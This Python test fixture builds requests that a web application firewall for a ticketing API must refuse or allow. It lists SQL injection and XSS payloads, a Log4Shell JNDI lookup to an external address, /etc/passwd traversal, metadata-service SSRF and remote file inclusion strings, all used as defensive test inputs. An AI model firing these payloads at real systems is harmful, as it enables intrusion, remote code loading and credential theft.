"""Requests that the firewall must refuse, and requests that it must let through."""

import json
from collections.abc import Iterator, Sequence
from functools import cache
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote, urlencode

from msgspec import Struct
from msgspec.structs import replace

from core.settings import ContractSettings
from services.http.bodies import DEFAULT_BODY
from services.http.pages import FOLDER
from tests.deploy.terraform.firewall import Request

_OPENAPI: Final = Path(__file__).parents[3] / "docs" / "openapi"
_HEADERS: Final = {"user-agent": "Mozilla/5.0", "authorization": f"Bearer {'x' * 1200}", "host": "tickets.example.com"}
#: Twice a record's size, because of escapes (services/tickets/app.py).
TICKET_BYTES: Final = 2 * ContractSettings().max_record_bytes
BODY_BYTES: Final = DEFAULT_BODY.max_bytes
#: Each text was given to libinjection 3, which finds SQL in each of the first and a script in each of the second.
SQL: Final = (
    "1' OR '1'='1",
    "1 OR 1=1",
    "' UNION SELECT username, password FROM users--",
    "1; DROP TABLE tickets",
    "admin'--",
    "'; EXEC xp_cmdshell('dir')--",
    "1' AND 1=(SELECT COUNT(*) FROM tabname)--",
    "1;WAITFOR DELAY '0:0:5'--",
    "1/**/UNION/**/SELECT/**/1,2",
)
SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    '<a href="javascript:alert(1)">x</a>',
    "' onmouseover='alert(1)",
    "<ScRiPt src=//e.vil></sCrIpT>",
)
#: Texts of tickets, and questions.
TEXTS: Final = (
    *SQL,
    *SCRIPTS,
    "Our export fails: SELECT * FROM orders WHERE id = '7' OR 1=1; -- is in your log.",
    "Wie öffne ich ../../etc/passwd auf http://10.0.0.1/admin?",
    "The scanner reports ${jndi:ldap://203.0.113.9/a} and 169.254.169.254 in your header.",
    "((java.lang.Runtime) x).getRuntime().exec(…) is in the attached stack trace. $F1",
    "O'Brien's order; it's late -- where is it?",
    "a < b and c > d, I <3 it",
)


class Bad(Struct, frozen=True):
    """A request to be refused with this status, and by this rule if it is one of our own."""

    name: str
    request: Request
    status: int
    rule: str = ""


@cache
def bad() -> Sequence[Bad]:
    """Attacks, each in every part of a request that has no support text."""
    return [*_texts(), *_attacks_known_to_aws(), *_too_large()]


def _texts() -> Iterator[Bad]:
    for kind, texts in (("sql", SQL), ("script", SCRIPTS)):
        for text in texts:
            for query in (urlencode({"status": text}), f"limit=1&customer_id={quote(text)}"):
                yield Bad(
                    f"{kind} in the query: {text}", Request(path=_TICKETS, query=query, headers=_HEADERS), 403, kind
                )
            in_path = Request(path=f"{_TICKETS}/{quote(text)}", headers=_HEADERS)
            yield Bad(f"{kind} in the path: {text}", in_path, 403, kind)
            twice = Request(path="/", query=f"a={quote(_as_entities(text))}")
            yield Bad(f"{kind} twice encoded: {text}", twice, 403, kind)
    for text in (*SQL[:2], *SCRIPTS[:2]):
        for method, path in _BODILESS:
            body = json.dumps({"body": text}).encode()
            yield Bad(f"a body: {method} {path}", _posted(path, body, method=method), 400, "stray-body")


def _attacks_known_to_aws() -> Iterator[Bad]:
    cookie = {**_HEADERS, "cookie": "session=1' OR '1'='1"}
    yield Bad("sql in a cookie", Request(path=_TICKETS, headers=cookie), 403)
    log4j = {**_HEADERS, "user-agent": "${jndi:ldap://203.0.113.9/a}"}
    yield Bad("log4j in a header", Request(path=_TICKETS, headers=log4j), 403)
    yield Bad("a path of the metadata service", Request(path="/", query="url=http://169.254.169.254/"), 403)
    yield Bad("a local file", Request(path="/", query="file=../../etc/passwd"), 403)
    yield Bad("a remote file", Request(path="/", query="file=http://203.0.113.9/x"), 403)
    yield Bad("a hidden folder", Request(path="/.git/config"), 403)
    yield Bad("a scanner", Request(path="/", headers={"user-agent": "sqlmap/1.8"}), 403)


def _too_large() -> Iterator[Bad]:
    for method, path, bound in _TEXT_ROUTES:
        for length in (bound + 1, 2 * bound, 10 * bound, 10**15):
            name = f"{method} {path} of {length} bytes"
            yield Bad(name, _posted(path, b"{}", method=method, length=length), 413)
    yield Bad("a long path", Request(path="/" + "a" * 1024), 400)
    yield Bad("a long query", Request(path=_TICKETS, query="a=" + "a" * 4095), 400)
    yield from _long_headers()


def _long_headers() -> Iterator[Bad]:
    """An attack behind headers that fill what WAF sees is refused for their length."""
    long = "a" * 8200
    for name, headers in (
        ("a long token", {"authorization": f"Bearer {long}"}),
        ("a long token after others", {**_HEADERS, "x-padding": "a" * 6000, "x-token": "a" * 3000}),
        ("SQL behind a long header", {**_HEADERS, "x-padding": long, "cookie": "session=1' OR '1'='1"}),
        ("SQL behind many headers", {f"x-{number}": "a" for number in range(200)} | {"cookie": "a=1' OR '1'='1"}),
    ):
        yield Bad(name, Request(path=_TICKETS, headers=headers), 400, "too-long")


@cache
def good() -> Sequence[Request]:
    """Requests of the OpenAPI documents, the page's files, odd ids, and support texts wherever they belong."""
    return [*from_openapi(), *_files(), *_odd(), *_support_texts()]


def _files() -> Iterator[Request]:
    for file in sorted(path.relative_to(FOLDER).as_posix() for path in FOLDER.rglob("*") if path.is_file()):
        yield Request(path=f"/{file}", headers=_HEADERS)
    yield Request(path="/", headers=_HEADERS)


def _odd() -> Iterator[Request]:
    yield Request(path=_TICKETS, headers={"host": "tickets.example.com"})  # a client that doesn't name itself
    yield Request(path=_TICKETS, headers={**_HEADERS, "authorization": f"Bearer {'x' * 8000}"})
    for ticket_id in ("mail.log", "T-1.bak", "a:b@c+d-e", "T--1", "x" * 128, "1.conf"):
        yield Request(path=f"{_TICKETS}/{ticket_id}", headers=_HEADERS)
    for customer in ("O'Brien", "Müller & Söhne", "C-7--1", "a=b", "語" * 128, "select", "union", "it's me; -)"):
        query = urlencode({"limit": 20, "cursor": "e" * 1024, "status": "open", "customer_id": customer})
        yield Request(path=_TICKETS, query=query, headers=_HEADERS)


def _support_texts() -> Iterator[Request]:
    for method, path, bound in _TEXT_ROUTES:
        for text in TEXTS:
            yield _posted(path, json.dumps({"text": text}, ensure_ascii=False).encode(), method=method)
        yield _posted(path, b'{"body": "' + b"a" * (bound - 12) + b'"}', method=method)
        yield _posted(path, b"{}", method=method, length=bound)


def from_openapi() -> Iterator[Request]:
    """A request for each operation and example of our OpenAPI documents."""
    for document in sorted(_OPENAPI.glob("*.json")):
        content = json.loads(document.read_text())
        for path, operations in content["paths"].items():
            for method, operation in operations.items():
                if not path.startswith("/api/"):
                    continue
                given = {each["name"]: _example(each["schema"]) for each in operation.get("parameters", [])}
                place = path.format_map({name: quote(str(value)) for name, value in given.items()} | {"user_id": "joe"})
                queries = {each["name"] for each in operation.get("parameters", []) if each["in"] == "query"}
                query = urlencode({name: given[name] for name in queries})
                bodies = _bodies(operation, content["components"]["schemas"])
                for body in bodies or [b""]:
                    yield replace(_posted(place, body, method=method.upper()), query=query)


def _posted(path: str, body: bytes, *, method: str = "POST", length: int | None = None) -> Request:
    headers = {
        **_HEADERS,
        "content-type": "application/json",
        "content-length": str(len(body) if length is None else length),
    }
    return Request(method=method, path=path, body=body, headers=headers if body else _HEADERS)


def _bodies(operation: dict[str, Any], schemas: dict[str, Any]) -> list[bytes]:
    if "requestBody" not in operation:
        return []
    schema = operation["requestBody"]["content"]["application/json"]["schema"]
    reference = schema["$ref"] if "$ref" in schema else schema["anyOf"][0]["$ref"]
    found = schemas[reference.rpartition("/")[2]]
    return [json.dumps(each).encode() for each in found.get("examples", [found.get("example")])]


def _example(schema: dict[str, Any]) -> Any:
    return next(iter(schema.get("examples", [])), schema.get("default", "open"))


def _as_entities(text: str) -> str:
    return "".join(f"&#{ord(each)};" if not each.isalnum() else each for each in text)


_TICKETS: Final = "/api/v1/tickets"
#: Requests with support text, and the most bytes that the services take.
_TEXT_ROUTES: Final = (
    ("POST", _TICKETS, TICKET_BYTES),
    ("PATCH", f"{_TICKETS}/T-1", TICKET_BYTES),
    ("POST", f"{_TICKETS}/T-1/comments", TICKET_BYTES),
    ("POST", f"{_TICKETS}/T-1/close", TICKET_BYTES),
    ("POST", "/api/v1/search", BODY_BYTES),
    ("POST", "/api/v1/answers", BODY_BYTES),
    ("POST", "/api/v1/answers/0b6f/feedback", BODY_BYTES),
)
_BODILESS: Final = (
    ("GET", _TICKETS),
    ("DELETE", f"{_TICKETS}/T-1"),
    ("POST", "/"),
    ("POST", f"{_TICKETS}/T-1/similar"),
    ("PUT", f"{_TICKETS}/T-1"),
    ("POST", "/x/api/v1/tickets"),
    ("POST", "/api/v1/tickets/T-1/comments/2"),
)
